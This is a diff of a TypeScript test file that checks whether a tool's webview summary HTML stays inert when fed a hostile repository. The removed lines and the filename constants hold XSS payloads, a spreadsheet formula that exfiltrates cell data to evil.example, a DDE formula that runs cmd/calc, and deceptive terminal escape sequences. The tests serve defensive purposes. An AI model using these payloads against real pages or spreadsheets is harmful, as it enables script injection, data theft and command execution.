@@ -13,24 +13,16 @@ import * as path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { REPO } from '../lsp-client';
 import { TODAY } from '../lsp-fixture';
+import { XSS_PAYLOADS } from '../hostile-fixture';
 import { DiskWorkspace } from '../../server/src/engine/disk-workspace';
 import { loadProject } from '../../server/src/engine/load';
 import { computeSummary } from '../../server/src/engine/summary';
 import { formatSummaryMarkdown } from '../../server/src/report/summary-text';
 import { renderSummaryHtml } from '../../client/src/summary-html';
+import { CHECKS } from '../../server/src/checks';
 
 const CLI = path.join(REPO, 'dist', 'cli.js');
-const X = {
-  script: '<script>alert(1)</script>',
-  img: '"><img src=x onerror=alert(2)>',
-  svg: "'><svg/onload=alert(3)>",
-  js: 'javascript:alert(4)',
-  link: '[click me](javascript:alert(5))',
-  style: '<style>*{display:none}</style>',
-  formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
-  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  esc: '\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\rAll clear',
-};
+const X = XSS_PAYLOADS;
 /** Payloads usable in a file name (no slash). */
 const FILE_IMG = '<img src=x onerror=alert(6)>';
 const FILE_SVG = '"><svg onload=alert(7)>';
@@ -94,7 +86,7 @@ function assertInertHtml(label: string, html: string, allowNonceScript = false):
 }
 
 test('the webview HTML of the engine\'s own summary of the hostile repo is inert', async () => {
-  const { project } = await loadProject(new DiskWorkspace(dir), { today: TODAY });
+  const { project } = await loadProject(new DiskWorkspace(dir), { checks: CHECKS, today: TODAY });
   const summary = computeSummary(project);
   assert.ok(summary.owners.some((o) => o.owner === X.at), 'the payloads reached the summary');
   const html = renderSummaryHtml({ indexing: false, roots: [{ root: pathToFileURL(dir).href, name: X.script, summary, markdown: formatSummaryMarkdown(summary) }] }, 'Nonce0123456789abcdefXYZ');
